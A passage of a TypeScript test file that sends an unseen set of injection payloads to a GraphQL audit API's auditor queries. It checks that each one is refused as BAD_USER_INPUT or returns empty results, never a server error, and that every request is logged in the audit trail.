    ['accessEvents(filter.subject)', `query($v: String) { accessEvents(first: 5, filter: { subject: $v }) { edges { node { requestId } } } }`, 'auditor', 'accessEvents'],
    ['accessEvents(filter.organisation)', `query($v: String) { accessEvents(first: 5, filter: { organisation: $v }) { edges { node { requestId } } } }`, 'auditor', 'accessEvents'],
    ['accessEvents(filter.operationName)', `query($v: String) { accessEvents(first: 5, filter: { operationName: $v }) { edges { node { requestId } } } }`, 'auditor', 'accessEvents'],
    ['accessEvents(filter.purpose)', `query($v: String) { accessEvents(first: 5, filter: { purpose: $v }) { edges { node { requestId } } } }`, 'auditor', 'accessEvents'],
    ['accessEvents(filter.fieldCoordinate)', `query($v: String) { accessEvents(first: 5, filter: { fieldCoordinate: $v }) { edges { node { requestId } } } }`, 'auditor', 'accessEvents'],
    // Finds the events of this suite that carried the value, and only those.
    ['searchedTerm(value)', `query($v: String!) { searchedTerm(first: 5, value: $v) { edges { node { requestId } } } }`, 'auditor', null],
    ['whoAccessed(type, id)', `query($v: String!) { whoAccessed(first: 5, type: $v, id: $v) { edges { node { requestId } } } }`, 'auditor', 'whoAccessed'],
  ];

  test.each(cases)('%s: a coded BAD_USER_INPUT or an ordinary answer, never a server error', async (_name, query, as, list) => {
    const searches = query.includes('searchedTerm(');
    let searched = 0;
    for (const payload of PAYLOADS) {
      // searchedTerm must find something: a request of this suite that carried the value, sent just before.
      const carrier = searches ? await post({ query: `query($v: String) { operation(code: $v) { id } }`, variables: { v: payload } }) : null;
      const response = await post({ query, variables: { v: payload } }, { as });
      const summary = { payload, status: response.status, codes: response.json?.errors?.map((e: any) => e.extensions?.code) };
      expect(summary.status).toBeLessThan(500);
      const events = await eventsOf(response.requestId);
      expect(events).toHaveLength(1);
      if (response.json.errors) {
        expect(summary).toEqual({ ...summary, codes: summary.codes.map(() => 'BAD_USER_INPUT') });
        expect(nothingReturned(response.json.data)).toBe(true);
        expect(events[0].outcome).toBe('refused');
      } else {
        expect(events[0].outcome).toBe('ok');
        // Nothing matches an injected value: lists come back empty, lookups null.
        const data = response.json.data;
        expect(Object.keys(data)).toHaveLength(1);
        if (searches) {
          const found: string[] = data.searchedTerm.edges.map((e: any) => e.node.requestId);
          expect({ payload, found: found.includes(carrier!.requestId) }).toEqual({ payload, found: true });
          expect(found.every((id) => id.startsWith('hostile-'))).toBe(true);
          searched += 1;
        } else if (list) expect({ payload, edges: data[list].edges }).toEqual({ payload, edges: [] });
        else expect(Object.values(data).every((value) => value === null)).toBe(true);
      }
    }
    // Not every payload may be refused: the search itself must have run.
    if (searches) expect(searched).toBeGreaterThan(0);
  });
});
